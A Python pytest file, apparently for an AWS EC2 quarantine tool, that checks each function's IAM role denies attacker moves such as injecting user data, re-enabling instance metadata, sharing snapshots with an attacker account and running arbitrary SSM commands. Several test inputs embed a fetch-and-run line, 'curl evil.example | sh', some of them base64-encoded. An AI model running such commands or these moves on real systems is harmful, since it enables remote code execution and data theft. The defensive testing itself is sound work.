"""A compromised step, tried as the attacker would: it holds its function's role (every option
that brings rights switched on) under moto's IAM enforcement, with the embedded AWS evaluating
the conditions the policies put on instance mutations (local/patches/iam.py). Each move a wide
grant used to allow fails; the product's own use of the same action still works beside it."""

import boto3
import pytest
from botocore.exceptions import ClientError

from deploy import names, permissions
from local.victims import make_instance_profile, make_victim
from tests.helpers import instance_attribute

ATTACKER = "666666666666"


@pytest.fixture
def every_option(stack):
    """The settings whose policies hold the most rights, in force (roles follow them)."""
    stack.configure(**permissions.EVERY_OPTION)
    return stack


def _as(stack, function: str, service: str):
    """A client holding `function`'s credentials, as code running in that function would."""
    keys = stack.bridge.roles.credentials(names.function(stack.stage, function))
    return boto3.session.Session().client(
        service, region_name=stack.region, endpoint_url=stack.endpoint,
        aws_access_key_id=keys.access_key_id, aws_secret_access_key=keys.secret_access_key,
        aws_session_token=keys.session_token)


def _denied(call, **kwargs) -> None:
    with pytest.raises(ClientError) as refused:
        call(**kwargs)
    # EC2 answers a denial UnauthorizedOperation, the other services AccessDenied…
    assert refused.value.response["Error"]["Code"] in (
        "UnauthorizedOperation", "AccessDenied", "AccessDeniedException"), refused.value.response


def test_contain_sets_only_the_attributes_it_protects_never_user_data(every_option):
    stack = every_option
    instance = make_victim(stack, interfaces=1, volumes=1)["instance_id"]
    with stack.enforce_iam():
        ec2 = _as(stack, "contain", "ec2")
        _denied(ec2.modify_instance_attribute, InstanceId=instance,
                UserData={"Value": b"#!/bin/sh\ncurl evil.example | sh"})
        _denied(ec2.modify_instance_attribute, InstanceId=instance,
                InstanceType={"Value": "x2iedn.32xlarge"})
        _denied(ec2.modify_instance_attribute, InstanceId=instance,
                SourceDestCheck={"Value": False})
        _denied(ec2.modify_instance_attribute, InstanceId=instance, Attribute="userData",
                Value="IyEvYmluL3NoCmN1cmwgZXZpbC5leGFtcGxlIHwgc2gK")  # the generic form
        ec2.modify_instance_attribute(InstanceId=instance,
                                      DisableApiTermination={"Value": True})
        ec2.modify_instance_attribute(InstanceId=instance,
                                      InstanceInitiatedShutdownBehavior={"Value": "stop"})
    assert instance_attribute(stack, instance, "disableApiTermination") is True
    assert instance_attribute(stack, instance, "instanceType") == "t3.micro"
    assert not stack.client("ec2").describe_instance_attribute(
        InstanceId=instance, Attribute="userData").get("UserData", {}).get("Value")


def test_contain_hands_out_the_deny_all_profile_and_no_other(every_option):
    stack = every_option
    victim = make_victim(stack, interfaces=1, volumes=1)
    other = make_instance_profile(stack.client("iam"))  # any profile but deny-all
    (association,) = stack.client("ec2").describe_iam_instance_profile_associations(Filters=[
        {"Name": "instance-id", "Values": [victim["instance_id"]]}])[
        "IamInstanceProfileAssociations"]
    admin = f"arn:aws:iam::{stack.account}:instance-profile/{other}"
    deny_all = stack.names["DENY_ALL_PROFILE_ARN"]
    with stack.enforce_iam():
        ec2 = _as(stack, "contain", "ec2")
        _denied(ec2.replace_iam_instance_profile_association,
                IamInstanceProfile={"Arn": admin}, AssociationId=association["AssociationId"])
        ec2.replace_iam_instance_profile_association(
            IamInstanceProfile={"Arn": deny_all}, AssociationId=association["AssociationId"])
    (now,) = stack.client("ec2").describe_iam_instance_profile_associations(Filters=[
        {"Name": "instance-id", "Values": [victim["instance_id"]]},
        {"Name": "state", "Values": ["associated"]}])["IamInstanceProfileAssociations"]
    assert now["IamInstanceProfile"]["Arn"] == deny_all


def test_contain_turns_the_metadata_service_off_and_never_on(every_option):
    stack = every_option
    instance = make_victim(stack, interfaces=1, volumes=1)["instance_id"]

    def options():
        return stack.client("ec2").describe_instances(InstanceIds=[instance])[
            "Reservations"][0]["Instances"][0]["MetadataOptions"]

    with stack.enforce_iam():
        ec2 = _as(stack, "contain", "ec2")
        ec2.modify_instance_metadata_options(InstanceId=instance, HttpEndpoint="disabled")
        _denied(ec2.modify_instance_metadata_options, InstanceId=instance,
                HttpEndpoint="enabled")
        _denied(ec2.modify_instance_metadata_options, InstanceId=instance,
                HttpTokens="optional")  # IMDSv1 back, the endpoint left as it is
    assert (options()["HttpEndpoint"], options()["HttpTokens"]) == ("disabled", "required")


def test_snapshots_are_shared_with_the_forensic_account_only_never_made_public(every_option):
    stack = every_option
    instance = make_victim(stack, interfaces=1, volumes=1)["instance_id"]
    (reservation,) = stack.client("ec2").describe_instances(InstanceIds=[instance])[
        "Reservations"]
    volume = reservation["Instances"][0]["BlockDeviceMappings"][0]["Ebs"]["VolumeId"]
    snapshot = stack.client("ec2").create_snapshot(VolumeId=volume, TagSpecifications=[{
        "ResourceType": "snapshot", "Tags": [{"Key": "QuarantineIncident",
                                              "Value": "inc-1"}]}])["SnapshotId"]
    forensic = permissions.EVERY_OPTION["FORENSIC_ACCOUNT_ID"]
    with stack.enforce_iam():
        ec2 = _as(stack, "check_snapshots", "ec2")
        _denied(ec2.modify_snapshot_attribute, SnapshotId=snapshot,
                Attribute="createVolumePermission", OperationType="add", UserIds=[ATTACKER])
        _denied(ec2.modify_snapshot_attribute, SnapshotId=snapshot,
                Attribute="createVolumePermission", OperationType="add", GroupNames=["all"])
        _denied(ec2.modify_snapshot_attribute, SnapshotId=snapshot,
                CreateVolumePermission={"Add": [{"UserId": forensic}, {"UserId": ATTACKER}]})
        ec2.modify_snapshot_attribute(SnapshotId=snapshot, Attribute="createVolumePermission",
                                      OperationType="add", UserIds=[forensic])
    shared = stack.client("ec2").describe_snapshot_attribute(
        SnapshotId=snapshot, Attribute="createVolumePermission")["CreateVolumePermissions"]
    assert shared == [{"UserId": forensic}]


def test_memory_capture_runs_its_document_and_no_other(every_option):
    stack = every_option
    instance = make_victim(stack, interfaces=1, volumes=1)["instance_id"]
    stack.manage_with_ssm(instance)
    with stack.enforce_iam():
        ssm = _as(stack, "capture_memory", "ssm")
        _denied(ssm.send_command, InstanceIds=[instance], DocumentName="AWS-RunShellScript",
                Parameters={"commands": ["curl evil.example | sh"]})
        ssm.send_command(InstanceIds=[instance],
                         DocumentName=permissions.EVERY_OPTION["MEMORY_CAPTURE_DOCUMENT"])


@pytest.mark.parametrize("function", ["contain", "release"])
def test_an_interface_gets_its_groups_changed_and_nothing_else(every_option, function):
    """Never a public address, source/dest check off (routing others' traffic), an attachment
    or tracking change: on the interface, the groups alone."""
    stack = every_option
    victim = make_victim(stack, interfaces=1, volumes=1)
    (eni,) = victim["interfaces"]
    ec2_admin = stack.client("ec2")
    group = ec2_admin.create_security_group(
        GroupName="ec2-quarantine-isolation", Description="isolation", VpcId=victim["vpc_id"],
        TagSpecifications=[{"ResourceType": "security-group", "Tags": [
            {"Key": "ec2-quarantine", "Value": "isolation"}]}])["GroupId"]
    with stack.enforce_iam():
        ec2 = _as(stack, function, "ec2")
        _denied(ec2.modify_network_interface_attribute, NetworkInterfaceId=eni,
                SourceDestCheck={"Value": False})
        _denied(ec2.modify_network_interface_attribute, NetworkInterfaceId=eni,
                AssociatePublicIpAddress=True)
        _denied(ec2.modify_network_interface_attribute, NetworkInterfaceId=eni, Groups=[group],
                Description={"Value": "also this"})
        ec2.modify_network_interface_attribute(NetworkInterfaceId=eni, Groups=[group])
    described = ec2_admin.describe_network_interfaces(NetworkInterfaceIds=[eni])[
        "NetworkInterfaces"][0]
    assert [g["GroupId"] for g in described["Groups"]] == [group]
    assert described["SourceDestCheck"] is True


def _product_groups(stack, vpc_id: str) -> dict:
    """The VPC's pair of groups as the product makes them (tagged with their role)."""
    from chalicelib.actions.isolation import GROUP_NAMES, ROLE_TAG

    ec2 = stack.client("ec2")
    return {role: ec2.create_security_group(
        GroupName=name, Description=role, VpcId=vpc_id, TagSpecifications=[{
            "ResourceType": "security-group", "Tags": [{"Key": ROLE_TAG, "Value": role}]}])[
        "GroupId"] for role, name in GROUP_NAMES.items()}


def test_the_entry_function_can_isolate_and_nothing_else(stack):
    """The first cut's rights, held by the functions anyone's finding or request reaches: the
    product's groups on an interface, never another group; the tracking timeouts alone; the
    preservation attributes, to the values that protect; rules only added to the all-open group
    and taken from the isolation group; tags only on a group it creates. No restore, no
    profile, no instance tag (such as an exemption)."""
    victim = make_victim(stack, interfaces=1, volumes=1)
    (eni, groups), = victim["interfaces"].items()
    mine = _product_groups(stack, victim["vpc_id"])
    instance = victim["instance_id"]
    all_traffic = [{"IpProtocol": "-1", "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}]
    with stack.enforce_iam():
        ec2 = _as(stack, "on_guardduty_finding", "ec2")
        _denied(ec2.modify_network_interface_attribute, NetworkInterfaceId=eni, Groups=groups)
        _denied(ec2.modify_network_interface_attribute, NetworkInterfaceId=eni,
                Groups=[mine["isolation"], groups[0]])
        _denied(ec2.modify_network_interface_attribute, NetworkInterfaceId=eni,
                SourceDestCheck={"Value": False})
        _denied(ec2.modify_instance_attribute, InstanceId=instance,
                UserData={"Value": b"#!/bin/sh\ncurl evil.example | sh"})
        # the preservation attributes, only to the value that protects (never arming a loss)
        _denied(ec2.modify_instance_attribute, InstanceId=instance,
                InstanceInitiatedShutdownBehavior={"Value": "terminate"})
        _denied(ec2.modify_instance_attribute, InstanceId=instance,
                DisableApiTermination={"Value": False})
        _denied(ec2.modify_instance_attribute, InstanceId=instance,
                Attribute="instanceInitiatedShutdownBehavior", Value="terminate")
        _denied(ec2.create_tags, Resources=[instance],
                Tags=[{"Key": "QuarantineExempt", "Value": "true"}])
        _denied(ec2.create_tags, Resources=[mine["isolation"]], Tags=[{"Key": "x", "Value": "y"}])
        _denied(ec2.authorize_security_group_ingress, GroupId=mine["isolation"],
                IpPermissions=all_traffic)
        _denied(ec2.authorize_security_group_ingress, GroupId=groups[0],
                IpPermissions=all_traffic)
        _denied(ec2.revoke_security_group_egress, GroupId=mine["open"],
                IpPermissions=all_traffic)
        _denied(ec2.create_security_group, GroupName="mine", Description="x",
                VpcId=victim["vpc_id"])
        _denied(ec2.disassociate_iam_instance_profile, AssociationId="iip-assoc-0")
        # what the cut does
        ec2.modify_network_interface_attribute(NetworkInterfaceId=eni, Groups=[mine["open"]])
        ec2.modify_network_interface_attribute(NetworkInterfaceId=eni,
                                               Groups=[mine["isolation"]])
        ec2.modify_network_interface_attribute(
            NetworkInterfaceId=eni, ConnectionTrackingSpecification={
                "TcpEstablishedTimeout": 60, "UdpStreamTimeout": 60, "UdpTimeout": 30})
        ec2.modify_instance_attribute(InstanceId=instance,
                                      InstanceInitiatedShutdownBehavior={"Value": "stop"})
        ec2.authorize_security_group_ingress(GroupId=mine["open"], IpPermissions=all_traffic)
        ec2.revoke_security_group_egress(GroupId=mine["isolation"], IpPermissions=all_traffic)
    described = stack.client("ec2").describe_network_interfaces(NetworkInterfaceIds=[eni])[
        "NetworkInterfaces"][0]
    assert [g["GroupId"] for g in described["Groups"]] == [mine["isolation"]]
    assert described["SourceDestCheck"] is True
    assert instance_attribute(stack, instance, "instanceInitiatedShutdownBehavior") == "stop"
